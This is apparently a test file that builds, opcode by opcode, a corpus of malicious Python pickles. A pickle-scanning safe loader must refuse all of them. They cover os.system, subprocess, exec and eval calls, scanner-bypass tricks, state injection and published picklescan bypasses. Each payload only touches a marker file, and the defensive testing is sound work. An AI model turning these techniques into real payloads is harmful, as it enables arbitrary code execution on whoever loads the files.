"""Hand-built malicious pickles whose only effect, if they ran, is to create a file named MARKER in the cwd.

Every payload is assembled opcode by opcode (as in CPython's Lib/test/pickletester.py), so a reader can see what
each byte does. ``Case.real`` says whether CPython's own ``pickle.loads`` of the bytes (run in a subprocess with
cwd set to a scratch directory) really creates the marker: this proves the payload is live, so that safeload
refusing it means something.

The five groups of the design's security model that live at the pickle level are covered here: unknown callables
and callables reached indirectly (dotted names, _compat_pickle renames, memo-sourced strings, INST, OBJ, EXT),
parser confusion, and abuse of allowlisted types (BUILD/__setstate__ injection, helpers that call what is on the
stack). Denial of service lives in test_limits.py.
"""

from __future__ import annotations

import struct
from dataclasses import dataclass, field

MARKER = "MARKER"

# --------------------------------------------------------------------------------------------------------------
# opcode builders (names as in pickletools)

def PROTO(n: int) -> bytes:  # PROTO n
    return b"\x80" + bytes([n])


STOP = b"."  # STOP
MARK = b"("  # MARK
TUPLE = b"t"  # TUPLE: items since MARK
TUPLE1 = b"\x85"  # TUPLE1
TUPLE2 = b"\x86"  # TUPLE2
TUPLE3 = b"\x87"  # TUPLE3
EMPTY_TUPLE = b")"  # EMPTY_TUPLE
EMPTY_DICT = b"}"  # EMPTY_DICT
EMPTY_LIST = b"]"  # EMPTY_LIST
SETITEM = b"s"  # SETITEM
SETITEMS = b"u"  # SETITEMS
APPEND = b"a"  # APPEND
LIST = b"l"  # LIST
DICT = b"d"  # DICT
NONE = b"N"  # NONE
POP = b"0"  # POP
DUP = b"2"  # DUP
REDUCE = b"R"  # REDUCE: callable(*args)
BUILD = b"b"  # BUILD: apply state
NEWOBJ = b"\x81"  # NEWOBJ: cls.__new__(cls, *args)
NEWOBJ_EX = b"\x92"  # NEWOBJ_EX: cls.__new__(cls, *args, **kwargs)
STACK_GLOBAL = b"\x93"  # STACK_GLOBAL: module, name from the stack
MEMOIZE = b"\x94"  # MEMOIZE
OBJ = b"o"  # OBJ: MARK cls args... o


def GLOBAL(module: str, name: str) -> bytes:  # GLOBAL 'module' 'name' (text lines)
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def INST(module: str, name: str) -> bytes:  # INST 'module' 'name': MARK args... i
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def SHORT_BINUNICODE(s: str) -> bytes:  # SHORT_BINUNICODE (1-byte length)
    b = s.encode("utf-8")
    return b"\x8c" + bytes([len(b)]) + b


def BINUNICODE(s: str) -> bytes:  # BINUNICODE (4-byte length)
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def SHORT_BINBYTES(b: bytes) -> bytes:  # SHORT_BINBYTES
    return b"C" + bytes([len(b)]) + b


def STRING(s: str) -> bytes:  # STRING (protocol 0, quoted repr)
    assert "'" not in s and "\\" not in s
    return b"S'" + s.encode("ascii") + b"'\n"


def UNICODE(s: str) -> bytes:  # UNICODE (protocol 0, raw-unicode-escape line)
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def BININT1(n: int) -> bytes:  # BININT1
    return b"K" + bytes([n])


def INT(n: int) -> bytes:  # INT (protocol 0 text)
    return b"I" + str(n).encode() + b"\n"


def PUT(i: int) -> bytes:  # PUT (text index)
    return b"p" + str(i).encode() + b"\n"


def GET(i: int) -> bytes:  # GET (text index)
    return b"g" + str(i).encode() + b"\n"


def BINPUT(i: int) -> bytes:  # BINPUT
    return b"q" + bytes([i])


def BINGET(i: int) -> bytes:  # BINGET
    return b"h" + bytes([i])


def LONG_BINPUT(i: int) -> bytes:  # LONG_BINPUT
    return b"r" + struct.pack("<I", i)


def LONG_BINGET(i: int) -> bytes:  # LONG_BINGET
    return b"j" + struct.pack("<I", i)


def FRAME(n: int) -> bytes:  # FRAME (8-byte length)
    return b"\x95" + struct.pack("<Q", n)


def EXT1(code: int) -> bytes:  # EXT1
    return b"\x82" + bytes([code])


def EXT2(code: int) -> bytes:  # EXT2
    return b"\x83" + struct.pack("<H", code)


def EXT4(code: int) -> bytes:  # EXT4
    return b"\x84" + struct.pack("<i", code)


def SG(module: str, name: str) -> bytes:  # module, name pushed as SHORT_BINUNICODE, then STACK_GLOBAL
    return SHORT_BINUNICODE(module) + SHORT_BINUNICODE(name) + STACK_GLOBAL


def call1(callable_ops: bytes, arg_ops: bytes) -> bytes:  # callable, (arg,), REDUCE
    return callable_ops + arg_ops + TUPLE1 + REDUCE


# --------------------------------------------------------------------------------------------------------------

TOUCH = "touch " + MARKER
PY_OPEN = f"open('{MARKER}','w').close()"
PY_SYSTEM = f"__import__('os').system('touch {MARKER}')"

# EXT codes registered by the test fixture (copyreg.add_extension) for ('os', 'system').
EXT_CODES = {"EXT1": 0xF1, "EXT2": 0xBEEF, "EXT4": 0x12345678}


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    group: str
    refs: frozenset[str] = frozenset()  # qualnames the UnsafeGlobalError may name (any one of them)
    error: str = "global"  # "global": UnsafeGlobalError naming one of refs; "structural": any SafeLoadError
    real: bool = True  # CPython's pickle.loads of these bytes creates MARKER
    extensions: tuple[tuple[str, str, int], ...] = ()
    wellformed: bool = True  # pickletools can walk it to STOP
    imports: tuple[str, ...] = field(default=())  # modules the payload names (must not get imported)


def _refs(*names: str) -> frozenset[str]:
    return frozenset(names)


OS_SYSTEM = _refs("os.system", "posix.system")


def build_corpus() -> list[Case]:
    c: list[Case] = []
    add = c.append

    # ---- group 1: callables the scanner does not know ------------------------------------------------------
    add(Case("os.system proto0", (
        GLOBAL("os", "system")          # push os.system
        + MARK + STRING(TOUCH) + TUPLE  # ('touch MARKER',)
        + REDUCE + STOP),               # os.system('touch MARKER')
        "unknown-callable", OS_SYSTEM))
    add(Case("posix.system proto2", (
        PROTO(2)
        + GLOBAL("posix", "system")       # push posix.system
        + BINUNICODE(TOUCH) + TUPLE1      # ('touch MARKER',)
        + REDUCE + STOP),
        "unknown-callable", _refs("posix.system")))
    add(Case("builtins.exec proto4 stack_global", (
        PROTO(4)
        + SG("builtins", "exec")               # STACK_GLOBAL builtins.exec
        + SHORT_BINUNICODE(PY_OPEN) + TUPLE1   # ("open('MARKER','w').close()",)
        + REDUCE + STOP),
        "unknown-callable", _refs("builtins.exec")))
    add(Case("builtins.eval proto2", (
        PROTO(2)
        + GLOBAL("builtins", "eval")       # builtins.eval (only Paddle's exact form is allowed)
        + BINUNICODE(PY_SYSTEM) + TUPLE1   # ("__import__('os').system(...)",)
        + REDUCE + STOP),
        "unknown-callable", _refs("builtins.eval"), error="structural"))
    add(Case("builtins.open proto3", (
        PROTO(3)
        + GLOBAL("builtins", "open")                              # builtins.open
        + BINUNICODE(MARKER) + BINUNICODE("w") + TUPLE2           # ('MARKER', 'w')
        + REDUCE + STOP),                                         # open('MARKER', 'w') creates the file
        "unknown-callable", _refs("builtins.open", "io.open")))
    add(Case("io.FileIO proto2", (
        PROTO(2)
        + GLOBAL("io", "FileIO")                                  # io.FileIO
        + BINUNICODE(MARKER) + BINUNICODE("w") + TUPLE2           # ('MARKER', 'w')
        + REDUCE + STOP),
        "unknown-callable", _refs("io.FileIO", "_io.FileIO")))
    add(Case("subprocess.run proto4", (
        PROTO(4)
        + SG("subprocess", "run")                                 # subprocess.run
        + EMPTY_LIST + MARK + SHORT_BINUNICODE("touch") + SHORT_BINUNICODE(MARKER) + b"e"  # APPENDS
        + TUPLE1 + REDUCE + STOP),                                # run(['touch', 'MARKER'])
        "unknown-callable", _refs("subprocess.run"), imports=("subprocess",)))
    add(Case("subprocess.getoutput proto2", (
        PROTO(2)
        + GLOBAL("subprocess", "getoutput")                       # subprocess.getoutput
        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),            # getoutput('touch MARKER')
        "unknown-callable", _refs("subprocess.getoutput"), imports=("subprocess",)))
    add(Case("pathlib.Path.touch via getattr", (
        PROTO(2)
        + GLOBAL("builtins", "getattr")                           # getattr
        + GLOBAL("pathlib", "Path")                               # pathlib.Path
        + BINUNICODE(MARKER) + TUPLE1 + REDUCE                    # Path('MARKER')
        + BINUNICODE("touch") + TUPLE2 + REDUCE                   # getattr(Path('MARKER'), 'touch')
        + EMPTY_TUPLE + REDUCE + STOP),                           # ...()
        "unknown-callable", _refs("builtins.getattr", "pathlib.Path"), imports=("pathlib",)))
    add(Case("__import__ + getattr", (
        PROTO(2)
        + GLOBAL("builtins", "getattr")                           # getattr
        + GLOBAL("builtins", "__import__")                        # __import__
        + BINUNICODE("os") + TUPLE1 + REDUCE                      # __import__('os')
        + BINUNICODE("system") + TUPLE2 + REDUCE                  # getattr(os, 'system')
        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),            # os.system('touch MARKER')
        "unknown-callable", _refs("builtins.getattr", "builtins.__import__")))
    add(Case("importlib.import_module + getattr", (
        PROTO(4)
        + SG("builtins", "getattr")
        + SG("importlib", "import_module")
        + SHORT_BINUNICODE("os") + TUPLE1 + REDUCE                # import_module('os')
        + SHORT_BINUNICODE("system") + TUPLE2 + REDUCE            # getattr(os, 'system')
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "unknown-callable", _refs("builtins.getattr", "importlib.import_module")))
    inner = GLOBAL("os", "system") + MARK + STRING(TOUCH) + TUPLE + REDUCE + STOP
    add(Case("nested pickle.loads", (
        PROTO(3)
        + GLOBAL("pickle", "loads")                               # pickle.loads
        + SHORT_BINBYTES(inner) + TUPLE1                          # (b'<os.system pickle>',)
        + REDUCE + STOP),
        "unknown-callable", _refs("pickle.loads", "_pickle.loads")))
    add(Case("functools.partial(os.system)", (
        PROTO(2)
        + GLOBAL("functools", "partial")                          # functools.partial
        + GLOBAL("os", "system") + BINUNICODE(TOUCH) + TUPLE2     # (os.system, 'touch MARKER')
        + REDUCE                                                  # partial(os.system, 'touch MARKER')
        + EMPTY_TUPLE + REDUCE + STOP),                           # ...()
        "unknown-callable", _refs("functools.partial", "os.system", "posix.system")))
    add(Case("logging.FileHandler", (
        PROTO(2)
        + GLOBAL("logging", "FileHandler")                        # logging.FileHandler
        + BINUNICODE(MARKER) + TUPLE1 + REDUCE + STOP),           # FileHandler('MARKER') opens it for append
        "unknown-callable", _refs("logging.FileHandler"), imports=("logging",)))

    # ---- dotted names: never resolved by attribute walking --------------------------------------------------
    add(Case("torch serialization.os.system", (
        PROTO(4)
        + SHORT_BINUNICODE("torch") + SHORT_BINUNICODE("serialization.os.system") + STACK_GLOBAL
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "dotted", _refs("torch.serialization.os.system"), imports=("torch",)))
    add(Case("GLOBAL torch serialization.os.system proto4", (
        PROTO(4)
        + GLOBAL("torch", "serialization.os.system")              # GLOBAL with a dotted name (walked at proto 4)
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "dotted", _refs("torch.serialization.os.system"), imports=("torch",)))
    add(Case("os.path os.system", (
        PROTO(4)
        + SG("os.path", "os.system")                              # posixpath.os.system
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "dotted", _refs("os.path.os.system", "posixpath.os.system")))
    add(Case("argparse _os.system (module of an allowed class)", (
        PROTO(4)
        + SG("argparse", "_os.system")                            # argparse imports os as _os
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "dotted", _refs("argparse._os.system")))
    add(Case("collections OrderedDict.fromkeys dotted attr", (
        PROTO(4)
        + SG("collections", "OrderedDict.fromkeys")               # an attribute of an allowed class
        + EMPTY_LIST + TUPLE1 + REDUCE + STOP),
        "allowed-attr", _refs("collections.OrderedDict.fromkeys"), real=False))
    add(Case("builtins dict.get on module globals", (
        PROTO(4)
        + SG("builtins", "getattr")                               # getattr
        + SG("builtins", "dict.get")                              # dict.get (attribute of an allowed type)
        + SG("argparse", "Namespace.__init__.__globals__")        # argparse's module dict
        + SHORT_BINUNICODE("_os") + TUPLE2 + REDUCE               # dict.get(globals, '_os') -> os
        + SHORT_BINUNICODE("system") + TUPLE2 + REDUCE            # getattr(os, 'system')
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "allowed-attr",
        _refs("builtins.getattr", "builtins.dict.get", "argparse.Namespace.__init__.__globals__")))
    add(Case("builtins set.__init__", (
        PROTO(2)
        + GLOBAL("builtins", "set.__init__")
        + EMPTY_TUPLE + REDUCE + STOP),
        "allowed-attr", _refs("builtins.set.__init__"), real=False))

    # ---- _compat_pickle renames (applied before the allowlist) ----------------------------------------------
    add(Case("__builtin__.eval proto2", (
        PROTO(2)
        + GLOBAL("__builtin__", "eval")                           # -> builtins.eval
        + BINUNICODE(PY_SYSTEM) + TUPLE1 + REDUCE + STOP),
        "compat", _refs("builtins.eval", "__builtin__.eval"), error="structural"))
    add(Case("__builtin__.exec proto0", (
        GLOBAL("__builtin__", "exec")                             # -> builtins.exec
        + MARK + UNICODE(PY_OPEN) + TUPLE + REDUCE + STOP),
        "compat", _refs("builtins.exec", "__builtin__.exec")))
    add(Case("commands.getoutput proto2", (
        PROTO(2)
        + GLOBAL("commands", "getoutput")                         # -> subprocess.getoutput
        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "compat", _refs("subprocess.getoutput", "commands.getoutput"), imports=("subprocess",)))
    add(Case("copy_reg._reconstructor(os.system)", (
        PROTO(2)
        + GLOBAL("copy_reg", "_reconstructor")                    # -> copyreg._reconstructor
        + GLOBAL("os", "system") + GLOBAL("os", "system")         # cls=os.system, base=os.system
        + BINUNICODE(TOUCH) + TUPLE3 + REDUCE + STOP),
        "compat", OS_SYSTEM | _refs("copyreg._reconstructor", "copy_reg._reconstructor"), real=False))
    add(Case("copy_reg._reconstructor(FileHandler)", (
        PROTO(2)
        + GLOBAL("copy_reg", "_reconstructor")                    # -> copyreg._reconstructor
        + GLOBAL("logging", "FileHandler")                        # cls
        + GLOBAL("logging", "FileHandler")                        # base: base.__init__(obj, state) runs
        + BINUNICODE(MARKER) + TUPLE3 + REDUCE + STOP),           # FileHandler.__init__(obj, 'MARKER')
        "compat", _refs("logging.FileHandler", "copyreg._reconstructor", "copy_reg._reconstructor"),
        imports=("logging",)))
    add(Case("copyreg._reconstructor(FileHandler) proto0", (
        GLOBAL("copyreg", "_reconstructor")
        + MARK + GLOBAL("logging", "FileHandler") + GLOBAL("logging", "FileHandler")
        + UNICODE(MARKER) + TUPLE + REDUCE + STOP),
        "abuse-helper", _refs("logging.FileHandler", "copyreg._reconstructor"), imports=("logging",)))

    # ---- memo-sourced strings for STACK_GLOBAL --------------------------------------------------------------
    add(Case("stack_global from memo (BINGET)", (
        PROTO(4)
        + SHORT_BINUNICODE("os") + MEMOIZE                        # memo[0] = 'os'
        + SHORT_BINUNICODE("system") + MEMOIZE                    # memo[1] = 'system'
        + POP + POP                                               # forget them on the stack
        + BINUNICODE("harmless") + POP
        + BINGET(0) + BINGET(1) + STACK_GLOBAL                    # STACK_GLOBAL from memo
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "memo", OS_SYSTEM))
    add(Case("stack_global from memo (LONG_BINGET, BINPUT)", (
        PROTO(4)
        + SHORT_BINUNICODE("subprocess") + BINPUT(7) + POP        # memo[7] = 'subprocess'
        + SHORT_BINUNICODE("getoutput") + LONG_BINPUT(300) + POP  # memo[300] = 'getoutput'
        + LONG_BINGET(7) + LONG_BINGET(300) + STACK_GLOBAL
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "memo", _refs("subprocess.getoutput"), imports=("subprocess",)))
    add(Case("stack_global names built in a tuple", (
        PROTO(4)
        + SHORT_BINUNICODE("posix") + SHORT_BINUNICODE("system") + TUPLE2 + MEMOIZE + POP
        + SHORT_BINUNICODE("posix") + MEMOIZE + SHORT_BINUNICODE("system") + MEMOIZE
        + STACK_GLOBAL
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "memo", _refs("posix.system")))
    add(Case("stack_global with bytes names", (
        PROTO(4)
        + SHORT_BINBYTES(b"os") + SHORT_BINBYTES(b"system") + STACK_GLOBAL   # must be str
        + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "memo", error="structural", real=False))
    add(Case("proto0 GET of memoised global", (
        GLOBAL("os", "system") + PUT(0) + POP                     # memo[0] = os.system
        + GET(0)                                                  # back on the stack
        + MARK + STRING(TOUCH) + TUPLE + REDUCE + STOP),
        "memo", OS_SYSTEM))

    # ---- INST and OBJ -------------------------------------------------------------------------------------
    add(Case("INST os system", (
        MARK + STRING(TOUCH)                                      # MARK 'touch MARKER'
        + INST("os", "system") + STOP),                           # INST: os.system(*args)
        "inst-obj", OS_SYSTEM))
    add(Case("INST __builtin__ exec", (
        MARK + UNICODE(PY_OPEN)
        + INST("__builtin__", "exec") + STOP),
        "inst-obj", _refs("builtins.exec", "__builtin__.exec")))
    add(Case("OBJ os system", (
        MARK + GLOBAL("os", "system") + STRING(TOUCH)             # MARK cls arg
        + OBJ + STOP),                                            # OBJ: cls(*args)
        "inst-obj", OS_SYSTEM))
    add(Case("OBJ proto2 subprocess.getoutput", (
        PROTO(2) + MARK + GLOBAL("subprocess", "getoutput") + BINUNICODE(TOUCH)
        + OBJ + STOP),
        "inst-obj", _refs("subprocess.getoutput"), imports=("subprocess",)))

    # ---- EXT1 / EXT2 / EXT4 (copyreg extension registry) ----------------------------------------------------
    for op, builder in (("EXT1", EXT1), ("EXT2", EXT2), ("EXT4", EXT4)):
        code = EXT_CODES[op]
        add(Case(f"{op} -> os.system", (
            PROTO(2)
            + builder(code)                                       # extension code registered for os.system
            + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
            "ext", OS_SYSTEM, error="structural", extensions=(("os", "system", code),)))

    # ---- NEWOBJ / NEWOBJ_EX with dangerous classes --------------------------------------------------------
    add(Case("NEWOBJ subprocess.Popen", (
        PROTO(2)
        + GLOBAL("subprocess", "Popen")
        + EMPTY_LIST + BINUNICODE("touch") + APPEND + BINUNICODE(MARKER) + APPEND + TUPLE1
        + NEWOBJ                                                  # Popen.__new__(Popen, [...])
        + EMPTY_DICT + BINUNICODE("args") + BINUNICODE(TOUCH) + SETITEM
        + BUILD + STOP),
        "newobj", _refs("subprocess.Popen"), real=False, imports=("subprocess",)))
    add(Case("NEWOBJ_EX logging.FileHandler", (
        PROTO(4)
        + SG("logging", "FileHandler")
        + SHORT_BINUNICODE(MARKER) + TUPLE1                       # args
        + EMPTY_DICT + SHORT_BINUNICODE("mode") + SHORT_BINUNICODE("w") + SETITEM  # kwargs
        + NEWOBJ_EX + STOP),
        "newobj", _refs("logging.FileHandler"), real=False, imports=("logging",)))
    add(Case("NEWOBJ on an allowed function", (
        PROTO(2)
        + GLOBAL("_codecs", "encode")                             # allowed, but not a class
        + BINUNICODE("x") + BINUNICODE("latin1") + TUPLE2
        + NEWOBJ + STOP),
        "newobj", error="structural", real=False))
    add(Case("copyreg.__newobj__ subprocess.Popen", (
        PROTO(2)
        + GLOBAL("copyreg", "__newobj__")
        + GLOBAL("subprocess", "Popen") + TUPLE1 + REDUCE + STOP),
        "newobj", _refs("copyreg.__newobj__", "subprocess.Popen"), real=False, imports=("subprocess",)))

    # ---- BUILD / __setstate__ injection on allowed types ---------------------------------------------------
    add(Case("OrderedDict BUILD __setstate__=os.system then BUILD", (
        PROTO(2)
        + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE    # od = OrderedDict()
        + EMPTY_DICT + BINUNICODE("__setstate__") + GLOBAL("os", "system") + SETITEM
        + BUILD                                                   # od.__dict__['__setstate__'] = os.system
        + BINUNICODE(TOUCH) + BUILD                               # BUILD again: od.__setstate__('touch MARKER')
        + STOP),
        "build-injection", OS_SYSTEM))
    add(Case("OrderedDict BUILD __setstate__=allowed callable", (
        PROTO(2)
        + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + EMPTY_DICT + BINUNICODE("__setstate__") + GLOBAL("builtins", "set") + SETITEM
        + BUILD                                                   # inject an (allowed) __setstate__
        + EMPTY_LIST + BUILD + STOP),                             # second BUILD would call it
        "build-injection", error="structural", real=False))
    for dunder in ("__setstate__", "__reduce__", "__deepcopy__", "__getattr__"):
        add(Case(f"OrderedDict single BUILD {dunder}", (
            PROTO(2)
            + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE   # od = OrderedDict()
            + EMPTY_DICT + BINUNICODE(dunder) + GLOBAL("collections", "OrderedDict") + SETITEM
            + BUILD + STOP),                                      # od.__dict__[dunder] = OrderedDict
            "build-injection", error="structural", real=False))
    add(Case("OrderedDict BUILD slotstate __class__", (
        PROTO(2)
        + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + NONE                                                    # no dict state
        + EMPTY_DICT + BINUNICODE("__class__") + GLOBAL("collections", "Counter") + SETITEM
        + TUPLE2 + BUILD + STOP),                                 # setattr(od, '__class__', Counter)
        "build-injection", error="structural", real=False))
    add(Case("OrderedDict BUILD __reduce_ex__", (
        PROTO(2)
        + GLOBAL("collections", "OrderedDict") + EMPTY_TUPLE + REDUCE
        + EMPTY_DICT + BINUNICODE("__reduce_ex__") + GLOBAL("builtins", "set") + SETITEM
        + BUILD + STOP),
        "build-injection", error="structural", real=False))
    add(Case("Namespace BUILD __dict__ replacement", (
        PROTO(2)
        + GLOBAL("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
        + NONE + EMPTY_DICT + BINUNICODE("__dict__") + EMPTY_DICT + SETITEM + TUPLE2
        + BUILD + STOP),
        "build-injection", error="structural", real=False))
    add(Case("ndarray rebuilder BUILD with a dict state", (
        PROTO(2)
        + GLOBAL("numpy.core.multiarray", "_reconstruct")
        + GLOBAL("numpy", "ndarray") + BININT1(0) + TUPLE1 + SHORT_BINBYTES(b"b") + TUPLE3
        + REDUCE                                                  # our own ndarray placeholder
        + EMPTY_DICT + BINUNICODE("__class__") + GLOBAL("collections", "OrderedDict") + SETITEM
        + BINUNICODE("__setstate__") + GLOBAL("builtins", "set") + SETITEM
        + BUILD + STOP),                                          # not the (ver, shape, dtype, f, data) tuple
        "build-injection", error="structural", real=False))
    add(Case("BUILD on a set with dict state", (
        PROTO(2)
        + GLOBAL("builtins", "set") + EMPTY_LIST + TUPLE1 + REDUCE
        + EMPTY_DICT + BINUNICODE("__setstate__") + GLOBAL("builtins", "set") + SETITEM
        + BUILD + STOP),
        "build-injection", error="structural", real=False))

    # ---- helpers that call what is on the stack -----------------------------------------------------------
    add(Case("torch _rebuild_from_type_v2(os.system)", (
        PROTO(2)
        + GLOBAL("torch._tensor", "_rebuild_from_type_v2")
        + MARK
        + GLOBAL("os", "system")                                  # func
        + GLOBAL("collections", "OrderedDict")                    # new_type
        + BINUNICODE(TOUCH) + TUPLE1                              # args for func
        + EMPTY_DICT                                              # state
        + TUPLE + REDUCE + STOP),                                 # calls func(*args)
        "abuse-helper", OS_SYSTEM | _refs("torch._tensor._rebuild_from_type_v2"), imports=("torch",)))
    add(Case("torch _rebuild_from_type_v2(builtins.eval)", (
        PROTO(2)
        + GLOBAL("torch._tensor", "_rebuild_from_type_v2")
        + MARK
        + GLOBAL("builtins", "eval")                              # func: name allowed only for Paddle's form
        + GLOBAL("collections", "OrderedDict")
        + BINUNICODE(PY_SYSTEM) + TUPLE1
        + EMPTY_DICT
        + TUPLE + REDUCE + STOP),
        "abuse-helper", error="structural", imports=("torch",)))
    add(Case("copyreg._reconstructor(os.system) proto0", (
        GLOBAL("copyreg", "_reconstructor")
        + MARK + GLOBAL("os", "system") + GLOBAL("os", "system") + STRING(TOUCH) + TUPLE
        + REDUCE + STOP),
        "abuse-helper", OS_SYSTEM | _refs("copyreg._reconstructor"), real=False))
    # Paddle's eval pattern with the wrong expression or environment
    add(Case("paddle eval with code", (
        PROTO(2)
        + GLOBAL("builtins", "eval")
        + BINUNICODE(PY_SYSTEM)                                   # not 'data'
        + EMPTY_DICT + BINUNICODE("data") + NONE + SETITEM
        + TUPLE2 + REDUCE + STOP),
        "abuse-helper", error="structural"))
    add(Case("paddle eval with __builtins__ in env", (
        PROTO(2)
        + GLOBAL("builtins", "eval")
        + BINUNICODE("data")
        + EMPTY_DICT + BINUNICODE("data") + NONE + SETITEM
        + BINUNICODE("__builtins__") + EMPTY_DICT + SETITEM
        + TUPLE2 + REDUCE + STOP),
        "abuse-helper", error="structural", real=False))
    add(Case("paddle eval with 1 argument", (
        PROTO(2)
        + GLOBAL("builtins", "eval")
        + BINUNICODE(PY_SYSTEM) + TUPLE1 + REDUCE + STOP),
        "abuse-helper", error="structural"))

    # ---- protocol 0 text variants -------------------------------------------------------------------------
    add(Case("proto0 cposix system UNICODE arg", (
        GLOBAL("posix", "system") + PUT(0)
        + MARK + UNICODE(TOUCH) + PUT(1) + TUPLE + PUT(2)
        + REDUCE + PUT(3) + STOP),
        "proto0", _refs("posix.system")))
    add(Case("proto0 subprocess.getoutput with INT noise", (
        INT(1) + POP + GLOBAL("subprocess", "getoutput")
        + MARK + STRING(TOUCH) + TUPLE + REDUCE + STOP),
        "proto0", _refs("subprocess.getoutput"), imports=("subprocess",)))
    add(Case("proto0 CRLF line ending in GLOBAL", (
        b"cos\r\nsystem\r\n"                                      # GLOBAL 'os\r' 'system\r'
        + MARK + STRING(TOUCH) + TUPLE + REDUCE + STOP),
        "proto0", OS_SYSTEM | _refs("os\r.system\r"), error="structural", real=False))
    add(Case("proto0 DUP of global", (
        GLOBAL("os", "system") + DUP + POP
        + MARK + STRING(TOUCH) + TUPLE + REDUCE + STOP),
        "proto0", OS_SYSTEM))

    # ---- parser confusion ---------------------------------------------------------------------------------
    add(Case("payload then unknown opcode", (
        GLOBAL("os", "system") + MARK + STRING(TOUCH) + TUPLE + REDUCE  # runs in CPython
        + b"\xff"),                                               # then an invalid opcode
        "parser", OS_SYSTEM, error="structural", wellformed=False))
    add(Case("payload then truncation", (
        PROTO(2) + GLOBAL("os", "system") + BINUNICODE(TOUCH) + TUPLE1 + REDUCE
        + b"X\xff\xff\x00\x00"),                                  # BINUNICODE claiming 65535 bytes
        "parser", OS_SYSTEM, error="structural", wellformed=False))
    add(Case("benign STOP then payload", (
        PROTO(2) + NONE + STOP                                    # a reader that stops here sees None
        + PROTO(2) + GLOBAL("os", "system") + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "parser", OS_SYSTEM, error="structural", real=False))
    payload = SG("os", "system") + SHORT_BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP
    add(Case("FRAME length shorter than payload", (
        PROTO(4) + FRAME(3)                                       # frame claims 3 bytes
        + payload),
        "parser", OS_SYSTEM, error="structural"))
    add(Case("FRAME length longer than file", (
        PROTO(4) + FRAME(len(payload) + 1000)                     # frame claims more than exists
        + payload),
        "parser", OS_SYSTEM, error="structural", real=False, wellformed=False))
    c += published_cases()
    return c


def _src(py: str) -> bytes:  # BINUNICODE of Python source
    return BINUNICODE(py)


def published_cases() -> list[Case]:
    """Cases named after a published advisory or bypass write-up (picklescan, modelscan, fickling, torch).

    Each reproduces the technique of the advisory it names, with the marker file as its only effect. ``real``
    cases are proven live in CPython by test_malicious.test_payload_is_live_in_cpython.
    """
    c: list[Case] = []
    add = c.append
    import sys

    # ---- callables a blocklist scanner did not know ------------------------------------------------------
    add(Case("CVE-2025-1716 pip.main (picklescan)", (
        PROTO(2)
        + GLOBAL("pip", "main")                                        # pip.main
        + EMPTY_LIST + MARK + BINUNICODE("list") + BINUNICODE("--log") + BINUNICODE(MARKER) + b"e"  # APPENDS
        + TUPLE1 + REDUCE + STOP),                                     # pip.main(['list', '--log', 'MARKER'])
        "unknown-callable", _refs("pip.main"), imports=("pip",)))
    add(Case("GHSA-xp4f-hrf8-rxw7 ensurepip._run_pip (picklescan)", (
        PROTO(2)
        + GLOBAL("ensurepip", "_run_pip")                              # its args are pasted into python -c
        + _src("[]\nopen('MARKER','w').close()\nimport sys; sys.exit(0)\n#") + TUPLE1
        + REDUCE + STOP),
        "unknown-callable", _refs("ensurepip._run_pip"), imports=("ensurepip",)))
    add(Case("CVE-2025-10157 asyncio _UnixSubprocessTransport._start (picklescan)", (
        PROTO(4)
        + GLOBAL("asyncio.unix_events", "_UnixSubprocessTransport._start")   # a method reached by a dotted name
        + MARK
        + GLOBAL("types", "SimpleNamespace") + EMPTY_TUPLE + REDUCE    # self: any object with attributes
        + BINUNICODE(TOUCH) + b"\x88" + NONE + NONE + NONE + BININT1(0)  # args, shell=True, stdin..., bufsize
        + TUPLE + REDUCE + STOP),                                      # -> subprocess.Popen('touch MARKER', shell=True)
        "unknown-callable", _refs("asyncio.unix_events._UnixSubprocessTransport._start"),
        imports=("asyncio",)))
    add(Case("GHSA-m273-6v24-x4m4 operator.attrgetter on __import__ (picklescan)", (
        PROTO(2)
        + GLOBAL("operator", "attrgetter") + BINUNICODE("system") + TUPLE1 + REDUCE  # attrgetter('system')
        + GLOBAL("builtins", "__import__") + BINUNICODE("os") + TUPLE1 + REDUCE      # __import__('os')
        + TUPLE1 + REDUCE                                              # -> os.system
        + BINUNICODE(TOUCH) + TUPLE1 + REDUCE + STOP),
        "unknown-callable", _refs("operator.attrgetter", "_operator.attrgetter")))
    add(Case("GHSA-955r-x9j8-7rhh _operator.methodcaller on code.InteractiveInterpreter (picklescan)", (
        PROTO(2)
        + GLOBAL("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE + BINPUT(0) + POP  # memo[0] = interp
        + GLOBAL("_operator", "methodcaller")
        + BINUNICODE("runsource") + _src(PY_OPEN) + TUPLE2 + REDUCE    # methodcaller('runsource', src)
        + BINGET(0) + TUPLE1 + REDUCE + STOP),                         # ...(interp): runs the source
        "unknown-callable", _refs("code.InteractiveInterpreter"), imports=("code",)))
